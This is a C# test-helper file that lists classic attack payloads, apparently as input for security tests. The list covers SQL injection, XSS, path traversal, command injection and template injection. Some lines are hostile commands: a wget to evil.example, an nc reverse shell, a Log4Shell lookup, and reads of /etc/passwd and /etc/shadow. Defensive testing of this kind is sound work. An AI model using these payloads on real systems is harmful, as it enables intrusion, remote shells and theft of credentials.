namespace Nexus.Tests.Shared;

/// <summary>The classic payloads: SQL injection, scripts, path traversal, commands, templates.</summary>
internal static class AttackTexts
{
    public static IReadOnlyList<string> All { get; } =
    [
        "' or '1'='1", "' OR 1=1--", "' or 1=1#", "\" or \"\"=\"", "') or ('a'='a", "1 or 1=1", "1' or '1' = '1' /*", "admin'--", "admin' #", "admin'/*", "' or true--", "' || '1'='1",
        "1; DROP TABLE users", "1'; drop table invoices--", "'; EXEC xp_cmdshell('dir'); --", "1;select pg_sleep(5)", "' UNION SELECT null,null--", "1 UNION ALL SELECT username, password FROM users",
        "' un/**/ion sel/**/ect 1,2--", "1 union/**/select 1,2,3", "' AND SLEEP(5)--", "1 AND (SELECT COUNT(*) FROM sqlite_master) > 0", "1 waitfor delay '0:0:10'", "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
        "' and ascii(substr((select name from sqlite_master limit 1),1,1))>64--", "1 order by 10--", "' having 1=1--", "' group by 1--", "1 or 2>1", "' or 'x' like 'x", "a' or exists(select 1)--", "select * from users", "' into outfile '/tmp/x",
        "benchmark(10000000,MD5(1))", "'='", "1' and '1'='1", "x'||(select 1)||'", "load_extension('/tmp/x.so')", "'; attach database '/tmp/x' as x; --", "' or not 1=2 --",
        "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1)>", "\"><script src=//evil.example></script>", "javascript:alert(1)",
        "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "\" onmouseover=\"alert(1)", "' onfocus=alert(1) autofocus='", "<details open ontoggle=alert(1)>", "<math><mtext></mtext></math>",
        "data:text/html,<script>alert(1)</script>", "\";alert(1);//", "'-alert(1)-'", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "<!--#exec cmd=\"ls\"-->", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253Ealert(1)", "';document.cookie//", "<style>@import 'http://evil.example/x.css'</style>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
        "../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/shadow", "file:///etc/passwd", "/proc/self/environ", "C:\\windows\\system32", "php://filter/convert.base64-encode/resource=index", "x\0.png",
        "; cat /etc/passwd", "| whoami", "`id`", "$(id)", "&& ls -la", "|| ping -c 10 127.0.0.1", "; wget http://evil.example/x.sh", "() { :;}; echo vulnerable", "/bin/sh -c id", "a;sleep 10", "x|nc -e /bin/sh 10.0.0.1 4444", "cat$IFS/etc/passwd",
        "${jndi:ldap://evil.example/a}", "${7*7}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "{{''.__class__.__mro__}}",
    ];
}
